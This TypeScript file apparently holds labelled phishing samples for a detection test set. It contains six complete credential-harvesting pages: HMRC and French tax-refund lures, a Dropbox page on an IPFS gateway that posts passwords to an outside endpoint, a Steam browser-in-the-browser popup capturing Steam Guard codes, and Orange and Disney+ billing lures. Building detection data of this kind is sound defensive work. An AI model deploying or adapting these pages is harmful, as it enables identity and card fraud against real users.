import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { b64, css, doc, img, js, json, qrSvg, text } from '../parts/h-parts.js';

export const entries: Entry[] = [
  // h-phish-hmrc-refund-ni-card
{
  id: 'h-phish-hmrc-refund-ni-card',
  label: 'phishing',
  kind: 'tax-refund',
  url: 'https://hmrc.gov.uk.tax-refund-claim.support/claim/step1.php?ref=HMRC-TR-88213',
  body: doc({
    lang: 'en-GB',
    title: 'Claim your tax refund - GOV.UK',
    css: `body{margin:0;font-family:Arial,sans-serif;color:#0b0c0c}.gh{background:#0b0c0c;color:#fff;padding:10px 30px;font-weight:bold;font-size:24px;border-bottom:10px solid #1d70b8}.wr{max-width:640px;margin:30px auto;padding:0 20px}.ph{background:#1d70b8;color:#fff;display:inline-block;padding:2px 6px;font-size:13px}h1{font-size:36px}label{display:block;font-weight:bold;margin-top:18px}.hint{color:#505a5f;font-size:15px}input{width:100%;max-width:360px;padding:6px;border:2px solid #0b0c0c;font-size:18px}.sm{max-width:110px}.bt{margin-top:24px;background:#00703c;color:#fff;border:0;padding:10px 16px;font-size:18px;box-shadow:0 2px 0 #002d18}.ins{border-left:10px solid #b1b4b6;padding:10px 14px;margin:20px 0}fieldset{border:0;padding:0}`,
    body: `<div class="gh">GOV.UK</div><div class="wr"><p><span class="ph">BETA</span> This is a new service – your <a href="#">feedback</a> will help us to improve it.</p>
<span class="hint">HM Revenue &amp; Customs</span><h1>Claim your tax refund</h1>
<div class="ins">After the last annual calculation of your fiscal activity we have determined that you are eligible to receive a tax refund of <b>£428.16</b>. Please submit the tax refund request and allow us 2-3 working days to process it.</div>
<form method="post" action="step2.php">
<fieldset><legend><h2>Your details</h2></legend>
<label>Full name</label><input name="fullname" required>
<label>Date of birth</label><span class="hint">For example, 27 3 1985</span><br><input class="sm" name="dob_d" placeholder="Day"> <input class="sm" name="dob_m" placeholder="Month"> <input class="sm" name="dob_y" placeholder="Year">
<label>National Insurance number</label><span class="hint">It's on your National Insurance card, benefit letter, payslip or P60. For example, 'QQ 12 34 56 C'.</span><input name="nino" required>
<label>Postcode</label><input class="sm" name="postcode" required>
<label>Mother's maiden name</label><input name="mmn"></fieldset>
<fieldset><legend><h2>Where should we send your refund?</h2></legend><p class="hint">Refunds are paid to a debit card in your name.</p>
<label>Card number</label><input name="ccnum" inputmode="numeric" maxlength="19" required>
<label>Expiry date</label><input class="sm" name="exp" placeholder="MM/YY" required>
<label>Security code</label><input class="sm" name="cvv" maxlength="4" required>
<label>Sort code</label><input class="sm" name="sort" placeholder="00-00-00"><label>Account number</label><input name="acc" maxlength="8"></fieldset>
<button class="bt">Submit refund request</button></form>
<p class="hint" style="margin-top:40px">© Crown copyright · <a href="#">Cookies</a> · <a href="#">Accessibility statement</a> · <a href="#">Privacy</a></p></div>`,
  }),
  routes: { 'hmrc.gov.uk.tax-refund-claim.support/claim/step2.php': htmlRoute(doc({ title: 'Processing - GOV.UK', body: '<p style="font-family:Arial;margin:40px">Processing your refund... please do not close this window.</p><script>setTimeout(function(){location="https://www.gov.uk/"},4000)</script>' })) },
},
  // h-phish-impots-remboursement-fr
{
  id: 'h-phish-impots-remboursement-fr',
  label: 'phishing',
  kind: 'tax-refund',
  url: 'https://impots-gouv.fr-remboursement.info/espace-particulier/',
  body: doc({
    lang: 'fr',
    title: 'impots.gouv.fr - Espace particulier',
    css: `body{margin:0;font-family:Marianne,Arial,sans-serif;background:#f6f6f6}.bn{background:#fff;padding:14px 30px;border-bottom:1px solid #ddd;display:flex;align-items:center;gap:20px}.rf{font-weight:bold;font-size:13px;line-height:1.1;border-left:0}.rf span{display:block;font-size:16px}.dg{color:#000091;font-weight:bold;font-size:20px}.mn{max-width:520px;margin:30px auto;background:#fff;padding:30px}.al{background:#e8edff;border-left:4px solid #000091;padding:12px;font-size:14px}label{display:block;margin:14px 0 4px;font-size:14px}input{width:100%;padding:9px;border:0;border-bottom:2px solid #3a3a3a;background:#eee;box-sizing:border-box}button{margin-top:22px;background:#000091;color:#fff;border:0;padding:11px 22px;font-size:15px}`,
    body: `<div class="bn"><div class="rf">RÉPUBLIQUE<span>FRANÇAISE</span><small>Liberté Égalité Fraternité</small></div><div class="dg">impots.gouv.fr</div></div>
<div class="mn"><h1>Avis de remboursement</h1>
<p class="al">Après vérification de votre déclaration de revenus 2025, vous êtes éligible à un remboursement d'un montant de <b>312,40 €</b>. Votre dossier n° FR-2026-<span id="n"></span> expire dans 48 heures.</p>
<form id="imp" method="post" action="valider.php">
<label>Numéro fiscal (13 chiffres)</label><input name="spi" maxlength="13" required>
<label>Mot de passe</label><input name="mdp" type="password" required>
<label>Nom et prénom</label><input name="nom" required>
<label>Date de naissance</label><input name="dn" placeholder="JJ/MM/AAAA" required>
<label>Numéro de téléphone</label><input name="tel">
<h3>Carte bancaire de réception</h3>
<label>Numéro de carte</label><input name="cb" maxlength="19" inputmode="numeric" required>
<label>Date d'expiration</label><input name="ex" placeholder="MM/AA" maxlength="5" required>
<label>Cryptogramme visuel</label><input name="cvv" maxlength="3" required>
<button>Valider ma demande</button></form>
<p style="font-size:12px;color:#666">Direction générale des Finances publiques · Mentions légales · Accessibilité : partiellement conforme</p></div>
<script>document.getElementById('n').textContent=Math.floor(Math.random()*9e6+1e6)</script>`,
  }),
  routes: { 'impots-gouv.fr-remboursement.info/espace-particulier/valider.php': htmlRoute(doc({ lang: 'fr', title: 'Vérification 3-D Secure', body: '<div style="font-family:Arial;max-width:400px;margin:40px auto"><h3>Vérification de votre banque</h3><p>Saisissez le code reçu par SMS.</p><form method="post" action="fin.php"><input name="code3ds" maxlength="8"><button>Valider</button></form></div>' })) },
},
  // h-phish-dropbox-ipfs-gateway
{
  id: 'h-phish-dropbox-ipfs-gateway',
  label: 'phishing',
  kind: 'ipfs-hosted',
  url: 'https://bafybeigx7q2ltm4nhzrd3ubvksa5ohw2xoyfqf6mpgj2nde4jtqhvqyz4a.ipfs.dweb-gateway.link/?filename=Q3_Statement.pdf#bWFya2V0aW5nQHRpbWJlcmxha2UuY29t',
  body: doc({
    title: 'Dropbox - Q3_Statement.pdf - Simplify your life',
    head: '<link rel="icon" href="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAIAAACQd1PeAAAADElEQVR4nGNgYPgPAAEDAQAIicLsAAAAAElFTkSuQmCC">',
    css: `body{margin:0;font-family:"Sharp Grotesk",Arial,sans-serif;background:#f7f5f2}.tb{background:#fff;padding:12px 24px;display:flex;align-items:center;gap:10px;border-bottom:1px solid #e6e4e0}.tb b{color:#0061fe;font-size:20px}.fl{display:flex;gap:30px;max-width:880px;margin:30px auto}.pv{flex:1;height:420px;background:#fff;border:1px solid #ddd;display:flex;align-items:center;justify-content:center;color:#aaa;font-size:80px}.sd{width:320px;background:#fff;border:1px solid #ddd;padding:22px}input{width:100%;padding:10px;margin:6px 0 10px;border:1px solid #bbb;box-sizing:border-box}button{width:100%;background:#0061fe;color:#fff;border:0;padding:11px;font-weight:600}.e{color:#c00;font-size:13px;display:none}`,
    body: `<div class="tb"><svg width="26" height="22" viewBox="0 0 43 40"><path fill="#0061fe" d="M12.5 0L0 8.1l8.7 7 12.5-7.8L12.5 0zM0 21.9l12.5 8.1 8.7-7.3-12.5-7.7L0 21.9zm21.2.8l8.7 7.3 12.4-8.1-8.6-6.9-12.5 7.7zm21.1-14.6L29.9 0l-8.7 7.3 12.5 7.8 8.6-7zM21.3 24.3l-8.8 7.3-3.7-2.5v2.8l12.5 7.5 12.5-7.5v-2.8l-3.8 2.5-8.7-7.3z"/></svg><b>Dropbox</b></div>
<div class="fl"><div class="pv">📄</div><div class="sd"><h3>Q3_Statement.pdf</h3><p style="font-size:13px;color:#555">Shared with you · 2.1 MB<br>To protect the privacy of this document, please verify your email account to continue.</p>
<form id="dx"><input id="e" type="email" placeholder="Email" readonly><input id="p" type="password" placeholder="Password" required><p class="e" id="er">Incorrect password, please try again.</p><button>Download</button></form>
<p style="font-size:11px;color:#999">© 2026 Dropbox Inc · Privacy · Terms</p></div></div>
<script>
var em='';try{em=atob(location.hash.slice(1))}catch(x){}document.getElementById('e').value=em;var dm=em.split('@')[1]||'';
var n=0;document.getElementById('dx').onsubmit=function(ev){ev.preventDefault();n++;var fd=new FormData();fd.append('email',em);fd.append('password',document.getElementById('p').value);fd.append('n',n);
fetch('https://submit.sheetform.io/api/v1/f/0f83e2b1',{method:'POST',body:fd,mode:'no-cors'}).then(function(){if(n==1){document.getElementById('er').style.display='block';document.getElementById('p').value=''}else{location.replace('https://www.'+dm)}})};
</script>`,
  }),
  routes: { 'submit.sheetform.io/api/v1/f/0f83e2b1': json({ success: true }) },
},
  // h-phish-steam-bitb-tournament
{
  id: 'h-phish-steam-bitb-tournament',
  label: 'phishing',
  kind: 'browser-in-browser',
  url: 'https://cs2-major-vote.gg/team/navi-vs-vitality',
  body: doc({
    title: 'CS2 Major 2026 | Vote for your team and get a free case',
    css: `body{margin:0;background:#0d0f14 linear-gradient(180deg,#1b1f2a,#0d0f14);color:#e6e6e6;font-family:Rajdhani,Arial,sans-serif}header{display:flex;padding:16px 40px;align-items:center;gap:30px}header b{font-size:24px;color:#f2a900}header a{color:#aaa;text-decoration:none}.hero{text-align:center;padding:50px 20px}.vs{display:flex;justify-content:center;gap:60px;margin:30px}.tm{background:#1f2430;padding:30px;border-radius:8px;width:220px}.tm h3{font-size:26px}.vbtn{background:#5c7e10;color:#fff;border:0;padding:12px 28px;font-size:17px;cursor:pointer;border-radius:4px}.st{display:inline-flex;align-items:center;gap:8px;background:#171a21;border:1px solid #333;padding:10px 20px;cursor:pointer;color:#fff}
#bw{display:none;position:fixed;left:50%;top:70px;transform:translateX(-50%);width:560px;background:#fff;border-radius:8px;box-shadow:0 10px 40px #000;overflow:hidden;z-index:9}.tt{background:#dee1e6;display:flex;align-items:center;padding:6px 10px;font:12px Segoe UI,sans-serif;color:#333}.tt .x{margin-left:auto;cursor:pointer}.ab{background:#fff;padding:6px 10px;font:13px Segoe UI,sans-serif;display:flex;align-items:center;gap:6px;border-bottom:1px solid #ddd}.ab .lk{color:#188038}.ab .u{background:#f1f3f4;border-radius:14px;padding:4px 12px;flex:1;color:#202124}.ab .u span{color:#5f6368}.sc{background:#171a21;color:#c7d5e0;padding:28px 36px;font-family:"Motiva Sans",Arial,sans-serif}.sc h2{color:#fff;font-weight:400}.sc label{display:block;font-size:12px;color:#1999ff;text-transform:uppercase;margin-top:14px}.sc input{width:100%;background:#32353c;border:0;color:#fff;padding:10px;box-sizing:border-box}.sc button{margin-top:18px;width:100%;padding:12px;border:0;color:#fff;background:linear-gradient(90deg,#06bfff,#2d73ff);font-size:16px}`,
    body: `<header><b>MAJOR 2026</b><a href="#">Matches</a><a href="#">Teams</a><a href="#">Rewards</a><a href="#">FAQ</a></header>
<div class="hero"><h1>Quarter-final: Natus Vincere vs Team Vitality</h1><p>Vote for the winner — every voter receives a free Kilowatt Case. 14 211 votes so far.</p>
<div class="vs"><div class="tm"><h3>NAVI</h3><p>54%</p><button class="vbtn" onclick="op()">Vote</button></div><div class="tm"><h3>Vitality</h3><p>46%</p><button class="vbtn" onclick="op()">Vote</button></div></div>
<div class="st" onclick="op()"><svg width="20" height="20" viewBox="0 0 20 20"><circle cx="10" cy="10" r="10" fill="#fff"/><circle cx="13" cy="7" r="3" fill="#171a21"/><circle cx="6" cy="14" r="2" fill="#171a21"/></svg> Sign in through Steam</div></div>
<div id="bw"><div class="tt">🟦 Steam Community :: Sign In — Google Chrome<span class="x" onclick="document.getElementById('bw').style.display='none'">✕</span></div>
<div class="ab"><span class="lk">🔒</span><div class="u">https://<b>steamcommunity.com</b><span>/openid/loginform/?goto=%2Fopenid%2Flogin%3Fopenid.mode%3Dcheckid_setup</span></div></div>
<div class="sc"><h2>Sign in</h2><p style="font-size:13px">cs2-major-vote.gg wants to use your Steam account to sign in.</p>
<form id="sl"><label>Sign in with account name</label><input id="su" autocomplete="off"><label>Password</label><input id="sp" type="password"><p id="gd" style="display:none;font-size:13px">Enter the code from your Steam Mobile App:<input id="sg" maxlength="5" style="text-transform:uppercase"></p><button>Sign in</button></form>
<p style="font-size:11px;color:#8f98a0">Note that cs2-major-vote.gg is not affiliated with Steam or Valve Corp.</p></div></div>
<script>
function op(){document.getElementById('bw').style.display='block'}
var st=0;document.getElementById('sl').onsubmit=function(e){e.preventDefault();var b={u:document.getElementById('su').value,p:document.getElementById('sp').value,g:document.getElementById('sg').value,st:st};
fetch('/api/steam/auth',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify(b)}).then(function(r){return r.json()}).then(function(j){if(j.guard&&st==0){st=1;document.getElementById('gd').style.display='block'}else{document.getElementById('bw').style.display='none';alert('Vote counted! Your case will arrive in your inventory within 24 hours.')}})};
</script>`,
  }),
  routes: { 'cs2-major-vote.gg/api/steam/auth': json({ guard: true }) },
},
  // h-phish-orange-facture-fr
{
  id: 'h-phish-orange-facture-fr',
  label: 'phishing',
  kind: 'telecom-bill',
  url: 'https://orange-espace-client.fr.secure-factur.com/mon-compte/facture/regularisation',
  body: doc({
    lang: 'fr',
    title: 'Espace client Orange - Régularisation de votre facture',
    css: `body{margin:0;font-family:"Helvetica Neue",Arial,sans-serif;background:#fff}.hd{background:#000;padding:10px 30px;display:flex;align-items:center;gap:16px;color:#fff}.lo{width:50px;height:50px;background:#ff7900;display:flex;align-items:flex-end;padding:4px;box-sizing:border-box;font-weight:bold;font-size:13px;color:#fff}.mn{max-width:560px;margin:30px auto;padding:0 20px}h1{font-size:28px}.r{border:2px solid #ff7900;padding:14px;margin:16px 0}input{width:100%;padding:10px;border:2px solid #ccc;box-sizing:border-box;margin:4px 0 12px}button{background:#ff7900;color:#000;font-weight:bold;border:0;padding:12px 26px;font-size:16px}`,
    body: `<div class="hd"><div class="lo">orange</div><span>Espace Client</span></div><div class="mn">
<h1>Votre facture n'a pas pu être réglée</h1>
<div class="r">Le prélèvement de votre facture du mois de novembre (<b>46,98 €</b>) a été rejeté par votre banque. Afin d'éviter la suspension de votre ligne mobile et de votre Livebox sous 24 h, veuillez mettre à jour votre moyen de paiement.</div>
<form method="post" action="/mon-compte/facture/paiement.php">
<label>Adresse e-mail ou numéro de mobile</label><input name="login" required>
<label>Mot de passe</label><input name="mdp" type="password" required>
<label>Titulaire de la carte</label><input name="tit" required>
<label>Numéro de carte</label><input name="num" inputmode="numeric" required>
<label>Date d'expiration (MM/AA)</label><input name="exp" required>
<label>Cryptogramme</label><input name="cvv" maxlength="3" required>
<label>IBAN (pour les prochains prélèvements)</label><input name="iban" placeholder="FR76 ....">
<button>Régler ma facture</button></form>
<p style="font-size:12px;color:#595959">© Orange 2026 · Informations légales · Données personnelles · Cookies</p></div>`,
  }),
  routes: { 'orange-espace-client.fr.secure-factur.com/mon-compte/facture/paiement.php': htmlRoute('<html><body><script>location="https://www.orange.fr/portail"</script></body></html>') },
},
  // h-phish-disney-plus-payment-de
{
  id: 'h-phish-disney-plus-payment-de',
  label: 'phishing',
  kind: 'subscription-card',
  url: 'https://disneyplus-konto.zahlung-aktualisieren.com/de-de/account/billing',
  body: doc({
    lang: 'de',
    title: 'Disney+ | Zahlungsinformationen aktualisieren',
    css: `body{margin:0;background:radial-gradient(ellipse at top,#1a1d29,#040714);color:#f9f9f9;font-family:Avenir,"Helvetica Neue",Arial,sans-serif}.lg{text-align:center;padding:30px;font-size:34px;font-family:Georgia,serif;font-style:italic}.bx{max-width:440px;margin:0 auto;padding:10px 20px}input{width:100%;padding:13px;background:#31343e;border:1px solid #31343e;color:#fff;border-radius:4px;box-sizing:border-box;margin:6px 0 12px;font-size:15px}button{width:100%;background:#0063e5;color:#fff;border:0;border-radius:4px;padding:14px;font-size:15px;letter-spacing:1.5px;text-transform:uppercase}p{color:#cacaca;font-size:15px}`,
    body: `<div class="lg">Disney+</div><div class="bx"><h2>Ihr Abonnement wurde pausiert</h2><p>Wir konnten die letzte Zahlung für Ihr Disney+ Premium-Abo (13,99 €) nicht verarbeiten. Bitte aktualisieren Sie Ihre Zahlungsdaten, um weiterhin Filme und Serien zu genießen.</p>
<form id="dp" action="/de-de/account/billing/submit" method="post">
<input name="email" type="email" placeholder="E-Mail-Adresse" required><input name="password" type="password" placeholder="Passwort" required>
<input name="name" placeholder="Name auf der Karte" required><input name="cc" placeholder="Kartennummer" inputmode="numeric" required>
<div style="display:flex;gap:10px"><input name="exp" placeholder="MM/JJ" required><input name="cvv" placeholder="CVV" required></div>
<input name="dob" placeholder="Geburtsdatum (TT.MM.JJJJ)">
<button>Speichern und fortfahren</button></form>
<p style="font-size:12px">© Disney. Alle Rechte vorbehalten. · Datenschutzrichtlinie · Nutzungsbedingungen · Impressum</p></div>`,
  }),
  routes: { 'disneyplus-konto.zahlung-aktualisieren.com/de-de/account/billing/submit': redirectRoute(302, 'https://www.disneyplus.com/') },
},
];
